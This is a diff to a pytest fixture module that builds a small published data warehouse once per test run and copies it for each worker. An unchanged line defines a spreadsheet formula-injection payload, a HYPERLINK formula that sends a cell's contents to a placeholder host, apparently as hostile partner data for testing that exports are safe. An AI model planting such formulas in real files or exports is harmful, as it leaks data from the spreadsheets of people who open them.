@@ -1,5 +1,6 @@
 """A published warehouse built once per session from the small hand-built delivery, for the tests of what
-analysts see (the warehouse file, its comments, example queries, exports, the run report).
+analysts see (the warehouse file, its comments, example queries, exports, the run report): built once
+per test run, each xdist worker taking a copy of its own.
 
 Register with `pytest_plugins = ["tests.support.warehouse"]` (conftest does); then a test takes
 `small_publication`: a data directory whose marts were built by a real `dbt build` (data tests, no unit
@@ -17,6 +18,7 @@ from panro.publish import publish
 from panro.settings import DataDirs
 from panro.transform import run_dbt
 from tests.support.published import M, epoch_ms, index_published, write_published, write_small_delivery
+from tests.support.sharing import built_once, copy_of
 
 # a campaign name as a partner may deliver it: text that Excel would run as a formula
 FORMULA_CAMPAIGN = '=HYPERLINK("http://example.invalid/?leak="&A1,"쿠폰 확인")'
@@ -40,4 +42,9 @@ def publish_small_delivery(root: Path) -> DataDirs:
 
 @pytest.fixture(scope="session")
 def small_publication(tmp_path_factory: pytest.TempPathFactory) -> DataDirs:
-    return publish_small_delivery(tmp_path_factory.mktemp("published") / "data")
+    """Built once per run (tests.support.sharing), then copied for each worker: the tests may write
+    into it (exports, dbt docs), and a data directory is relocatable (the published index holds
+    relative paths)."""
+    built = built_once(tmp_path_factory, "small-publication",
+                       lambda folder: publish_small_delivery(folder / "data").root)
+    return DataDirs.from_env(copy_of(built, tmp_path_factory.mktemp("published") / "data"))
